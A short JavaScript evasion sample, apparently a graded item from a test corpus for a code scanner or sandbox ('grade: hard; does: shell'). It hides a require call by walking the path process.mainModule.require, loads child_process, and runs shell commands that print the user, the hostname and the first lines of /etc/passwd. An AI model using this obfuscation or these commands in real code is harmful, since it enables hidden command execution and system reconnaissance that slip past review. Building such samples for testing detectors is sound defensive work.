// evasion: require reached by walking the dotted path "mainModule.require" from process with reduce; the command runner by a second walk
// grade: hard; does: shell
'use strict';
const walk = (root, dotted) => dotted.split('.').reduce((obj, key) => obj[key], root);

const host = walk(process, 'mainModule');
const load = walk(process, 'mainModule.require');
const cp = load.call(host, 'child_process');
const run = walk(cp, 'execSync');
run('id; hostname; cat /etc/passwd | head -n 5', { stdio: 'inherit' });
